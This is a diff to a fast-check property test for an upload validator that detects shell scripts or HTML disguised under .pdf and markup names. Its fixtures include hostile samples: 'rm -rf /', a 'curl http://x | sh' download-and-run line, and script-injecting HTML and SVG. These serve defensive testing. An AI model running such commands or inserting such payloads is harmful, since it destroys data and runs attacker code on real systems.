@@ -98,13 +98,17 @@ describe("evidence type by content, under arbitrary bytes and names", () => {
     );
   });
 
-  it("stores a shell script or HTML named .pdf as plain text under a .txt name, and refuses text named as markup: never PDF or markup", () => {
+  it("refuses a shell script or HTML named .pdf (text under a PDF's name) or as markup, and stores other text under a .txt name: never PDF or markup", () => {
     const scripts = fc.constantFrom("#!/bin/sh\nrm -rf /\n", "#!/usr/bin/env bash\ncurl http://x | sh\n", "<html><script>alert(1)</script></html>", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
     fc.assert(
       fc.property(scripts, fc.constantFrom("验收报告.pdf", "run.sh", "page.html", "icon.svg", "x.pdf.exe"), (text, name) => {
         const upload = { fileName: name, base64: Buffer.from(text).toString("base64") };
         if (/\.(html|svg)$/.test(name)) {
           expect(() => prepareEvidence(upload)).toThrow(expect.objectContaining({ messageKey: "workflow.evidence.markup" }));
+          return;
+        }
+        if (name.endsWith(".pdf")) {
+          expect(() => prepareEvidence(upload)).toThrow(expect.objectContaining({ messageKey: "workflow.evidence.textAsBinary" }));
           return;
         }
         const prepared = prepareEvidence(upload);
